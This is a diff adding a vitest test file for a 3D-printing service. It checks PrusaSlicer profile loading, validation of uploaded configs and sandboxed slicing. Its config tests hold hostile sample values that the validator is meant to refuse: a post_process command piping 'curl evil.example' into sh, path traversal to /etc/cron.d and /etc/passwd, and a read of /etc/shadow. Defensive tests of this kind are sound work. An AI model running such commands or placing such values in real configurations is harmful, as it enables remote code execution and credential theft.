@@ -1,0 +1,221 @@
+import { execFileSync } from 'node:child_process'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { probeBinary, runNative } from '@/lib/cad/openscad/native-openscad'
+import { parseBinaryStl } from '@/lib/cad/mesh/parse-stl'
+import { write3mf } from '@/lib/cad/mesh/write-3mf'
+import {
+  buildVolumeOf,
+  DEFAULT_PROFILE,
+  flatConfig,
+  presetNames,
+  ProfileError,
+  readUploadedConfig,
+  vendors,
+} from '@/lib/slicing/profiles'
+import { readGcode, slice, slicerBinary } from '@/lib/slicing/prusa-slicer'
+
+// PrusaSlicer's command line (Debian's 2.5) with the vendor bundles it ships, on models the
+// real engine (Debian's OpenSCAD, in its sandbox) builds: the sandboxed slice against a direct
+// run of the same 3MF and config, and what a quote must tell apart.
+const openscad = probeBinary(process.env.OPENSCAD_BINARY ?? '/usr/bin/openscad')
+const MINI = {
+  vendor: 'PrusaResearch',
+  printer: 'Original Prusa MINI & MINI+',
+  print: '0.15mm QUALITY @MINI',
+  filament: 'Prusament PETG',
+}
+
+/** The model of an OpenSCAD source as its print-ready 3MF. */
+async function printReady(source: string, defines: string[] = [], files: { path: string; data: Uint8Array }[] = []) {
+  const built = await runNative(openscad, {
+    files: [...files, { path: 'main.scad', data: new TextEncoder().encode(source) }],
+    mainFile: 'main.scad',
+    libraries: [],
+    fonts: [],
+    defines,
+    format: 'binstl',
+    timeLimitMs: 60_000,
+    memoryLimitBytes: 2 << 30,
+  })
+  expect(built.exitCode, built.log.error).toBe(0)
+  return write3mf(parseBinaryStl(built.output!))
+}
+
+function sliced(model: Uint8Array, config = flatConfig()) {
+  return slice({ model, config, timeLimitMs: 60_000, memoryLimitBytes: 2 << 30 })
+}
+
+/** The slicer run directly, outside any sandbox: the G-code's own summary lines. */
+function directRun(model: Uint8Array, config: string): Record<string, string> {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paraform-slice-test-'))
+  try {
+    fs.writeFileSync(path.join(dir, 'model.3mf'), model)
+    fs.writeFileSync(path.join(dir, 'config.ini'), config)
+    execFileSync(slicerBinary(), ['--export-gcode', '--load', 'config.ini', '--output', 'model.gcode', 'model.3mf'], {
+      cwd: dir,
+      stdio: 'ignore',
+      env: { ...process.env, HOME: dir },
+    })
+    const gcode = fs.readFileSync(path.join(dir, 'model.gcode'), 'latin1')
+    return Object.fromEntries([...gcode.matchAll(/^; ([^=\n]+?) = (.*)$/gm)].map(([, key, value]) => [key, value]))
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true })
+  }
+}
+
+function secondsOf(time: string): number {
+  const units: Record<string, number> = { d: 86400, h: 3600, m: 60, s: 1 }
+  return [...time.matchAll(/(\d+)([dhms])/g)].reduce((sum, [, n, unit]) => sum + Number(n) * units[unit!]!, 0)
+}
+
+describe('profiles', () => {
+  it('lists the vendor bundles on the machine and resolves a preset through what it inherits', () => {
+    expect(vendors()).toContain('PrusaResearch')
+    expect(presetNames('PrusaResearch', 'printer')).toContain(DEFAULT_PROFILE.printer)
+    expect(presetNames('PrusaResearch', 'print').some((name) => name.startsWith('*'))).toBe(false)
+    const config = flatConfig()
+    // The MK3S inherits its bed from the MK3, its quality's layer height from *0.20mm*, the filament's density from Prusament PLA.
+    expect(buildVolumeOf(config)).toEqual([250, 210, 210])
+    expect(config).toMatch(/^layer_height = 0\.2$/m)
+    expect(config).toMatch(/^filament_density = 1\.24$/m)
+    expect(config).toMatch(/^support_material = 1$/m)
+    expect(config).not.toMatch(/^(inherits|compatible_printers_condition) =/m)
+    expect(buildVolumeOf(flatConfig(MINI))).toEqual([180, 180, 180])
+  })
+
+  it('names what is wrong with a choice the machine does not have', () => {
+    expect(() => flatConfig({ ...DEFAULT_PROFILE, printer: 'Original Prusa i9' })).toThrow(
+      'PrusaResearch has no printer profile "Original Prusa i9"',
+    )
+    expect(() => flatConfig({ ...DEFAULT_PROFILE, vendor: '../etc/passwd' })).toThrow(ProfileError)
+    expect(() => flatConfig({ ...DEFAULT_PROFILE, vendor: 'Nobody' })).toThrow(
+      'this machine has no PrusaSlicer profiles of Nobody',
+    )
+  })
+
+  describe('an uploaded config', () => {
+    // A config as PrusaSlicer exports one: every key, the unsafe ones empty.
+    let exported: string
+    beforeAll(() => {
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paraform-config-test-'))
+      fs.writeFileSync(path.join(dir, 'in.ini'), flatConfig())
+      execFileSync(slicerBinary(), ['--load', 'in.ini', '--save', 'out.ini'], {
+        cwd: dir,
+        stdio: 'ignore',
+        env: { ...process.env, HOME: dir },
+      })
+      exported = fs.readFileSync(path.join(dir, 'out.ini'), 'utf8')
+      fs.rmSync(dir, { recursive: true, force: true })
+    })
+
+    it('is read as PrusaSlicer exported it', () => {
+      expect(exported).toMatch(/^post_process = $/m)
+      expect(readUploadedConfig(exported).get('bed_shape')).toBe('0x0,250x0,250x210,0x210')
+    })
+
+    it.each([
+      ['post_process', 'post_process = /bin/sh -c "curl evil.example | sh"'],
+      ['output_filename_format', 'output_filename_format = ../../etc/cron.d/job'],
+      ['bed_custom_texture', 'bed_custom_texture = /etc/shadow'],
+      ['printhost_apikey', 'printhost_apikey = secret'],
+    ])('refuses %s set to do harm, naming the key', (key, line) => {
+      const hostile = `${exported.replace(new RegExp(`^${key} = .*\n`, 'm'), '')}${line}\n`
+      expect(() => readUploadedConfig(hostile)).toThrow(`\`${key}\` may not be set`)
+    })
+
+    it('refuses what is not a single PrusaSlicer config', () => {
+      expect(() => readUploadedConfig('hello world')).toThrow('line 1 is not `key = value`')
+      expect(() => readUploadedConfig('speed = 3\n')).toThrow('not a PrusaSlicer config: it does not set `bed_shape`')
+      expect(() => readUploadedConfig(`${exported}layer_height = 0.1\n`)).toThrow('`layer_height` is set twice')
+      expect(() => readUploadedConfig(`[print:Mine]\n${exported}`)).toThrow('this is a config bundle')
+    })
+  })
+})
+
+describe('slicing in the sandbox', () => {
+  it('reports what a direct run of the same 3MF and profile writes, for two demo models and two profiles', async () => {
+    const box = await printReady(fs.readFileSync('demo/box-with-lid/main.scad', 'utf8'), ['width=50', 'depth=40'])
+    const gear = await printReady(fs.readFileSync('demo/spur-gear/main.scad', 'utf8'))
+    for (const model of [box, gear]) {
+      for (const config of [flatConfig(), flatConfig(MINI)]) {
+        const result = await sliced(model, config)
+        if (!result.figures) throw new Error(result.error)
+        const direct = directRun(model, config)
+        expect(result.figures.printTimeSeconds).toBe(secondsOf(direct['estimated printing time (normal mode)']!))
+        expect(result.figures.materials).toEqual([
+          {
+            extruder: 1,
+            lengthMm: Number(direct['filament used [mm]']),
+            weightG: Number(direct['filament used [g]']),
+          },
+        ])
+        expect(result.figures.layers).toBeGreaterThan(10)
+      }
+    }
+  })
+
+  it('tells a tall tower from a flat block of the same volume, and an overhang that needs supports', async () => {
+    const [tower, block, t] = await Promise.all([
+      printReady('cube([10, 10, 80]);'),
+      printReady('cube([40, 40, 5]);'),
+      // A T standing on its foot: the bar's arms hang 15 mm out on either side.
+      printReady('translate([15, 0, 0]) cube([5, 10, 30]); translate([0, 0, 30]) cube([35, 10, 5]);'),
+    ])
+    const [towerSlice, blockSlice, tSlice] = await Promise.all([sliced(tower), sliced(block), sliced(t)])
+    expect(towerSlice.figures!.printTimeSeconds).toBeGreaterThan(1.5 * blockSlice.figures!.printTimeSeconds)
+    expect(towerSlice.figures!.layers).toBe(400)
+    expect(blockSlice.figures!.layers).toBe(25)
+    expect(blockSlice.figures!.supports).toBe(false)
+    expect(towerSlice.figures!.supports).toBe(false)
+    expect(tSlice.figures!.supports).toBe(true)
+  })
+
+  it('says a model does not fit the printer instead of a time', async () => {
+    const result = await sliced(await printReady('cube([300, 20, 10]);'))
+    expect(result.figures).toBeNull()
+    expect(result).toMatchObject({ error: 'Objects could not fit on the bed' })
+  })
+
+  it('stops a slice at its time limit and leaves nothing behind', async () => {
+    const model = await printReady('cylinder(r = 40, h = 150, $fn = 400);')
+    const before = fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('paraform-slice-')).length
+    const result = await slice({ model, config: flatConfig(), timeLimitMs: 300, memoryLimitBytes: 2 << 30 })
+    expect(result).toMatchObject({ figures: null, error: 'the slicer was stopped after its time limit of 0.3 s' })
+    expect(fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('paraform-slice-')).length).toBe(before)
+  })
+
+  it('keeps what the slicer runs inside its sandbox: a post-processing script reaches none of the host', async () => {
+    const escaped = path.join(os.tmpdir(), `paraform-escaped-${process.pid}`)
+    const config = flatConfig().replace(/^post_process = .*$/m, `post_process = /usr/bin/touch ${escaped}`)
+    expect(config).toContain(escaped)
+    const result = await sliced(await printReady('cube([10, 10, 2]);'), config)
+    expect(result.figures).not.toBeNull()
+    expect(fs.existsSync(escaped)).toBe(false)
+  })
+
+  it('reads the summary PrusaSlicer writes at the end of its G-code', () => {
+    const figures = readGcode(
+      [
+        ';LAYER_CHANGE',
+        ';TYPE:Support material',
+        ';LAYER_CHANGE',
+        '; filament used [mm] = 1546.57, 0.00, 20.5',
+        '; filament used [g] = 4.61, 0.00, 0.06',
+        '; estimated printing time (normal mode) = 1d 3h 57m 16s',
+      ].join('\n'),
+    )
+    expect(figures).toEqual({
+      printTimeSeconds: 86400 + 3 * 3600 + 57 * 60 + 16,
+      materials: [
+        { extruder: 1, lengthMm: 1546.57, weightG: 4.61 },
+        { extruder: 3, lengthMm: 20.5, weightG: 0.06 },
+      ],
+      supports: true,
+      layers: 2,
+    })
+    expect(() => readGcode('G1 X0\n')).toThrow('not written by PrusaSlicer')
+  })
+})
